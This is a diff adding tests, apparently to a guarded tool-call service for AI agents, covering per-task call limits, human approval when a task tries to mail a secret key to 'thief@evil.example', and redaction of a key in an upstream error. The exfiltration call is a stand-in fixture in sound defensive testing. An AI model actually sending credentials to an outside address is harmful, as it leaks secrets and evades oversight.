@@ -168,6 +168,25 @@ async def test_another_tasks_calls_do_not_wait(tmp_path: Path) -> None:
     await reading
 
 
+async def test_a_task_cannot_pile_up_calls(tmp_path: Path) -> None:
+    begun, go = asyncio.Event(), asyncio.Event()
+
+    async def slow() -> str:
+        begun.set()
+        await go.wait()
+        return MAIL
+
+    it = bench_of(tmp_path, read_mail=slow)
+    task = it.open()
+    calls = [asyncio.create_task(it.call(task, "read_mail")) for _ in range(40)]
+    await begun.wait()
+    go.set()
+    refused = [result for result in await asyncio.gather(*calls) if result.is_error]
+    assert len(refused) == 8
+    assert "32 calls of this task wait already" in text_of(refused[0])
+    assert not (await it.call(task, "read_mail")).is_error
+
+
 async def test_a_task_that_ends_calls_no_more(tmp_path: Path) -> None:
     it = bench(tmp_path)
     task = it.open()
@@ -238,3 +257,24 @@ async def test_a_book_that_fails_refuses(tmp_path: Path) -> None:
     result = await it.call(task, "send", **ALICE)
     assert result.is_error
     assert it.servers.calls == []
+
+
+async def test_a_person_is_told_of_a_secret_beside_a_target_that_is_not_vouched_for(
+    tmp_path: Path,
+) -> None:
+    it = bench(tmp_path, more=guarded("ask", "out"))
+    it.service.policy = patient(it)
+    task = it.open()
+    await it.call(task, "read_mail")
+    call = asyncio.create_task(it.call(task, "send", to=["thief@evil.example"], body=KEY))
+    approval = await answered(it, False)
+    assert (await call).is_error
+    assert "hold anthropic-key" in approval.words
+    assert "thief@evil.example" in approval.words
+    assert KEY not in approval.words + str(approval.facts)
+
+
+async def test_a_secret_in_a_servers_error_is_stopped(tmp_path: Path) -> None:
+    it = bench(tmp_path, more=guarded("block", "in"))
+    it.servers.fails = UpstreamError(f"mail: no such key: {KEY}", sent=True)
+    assert KEY not in text_of(await it.call(it.open(), "read_mail"))
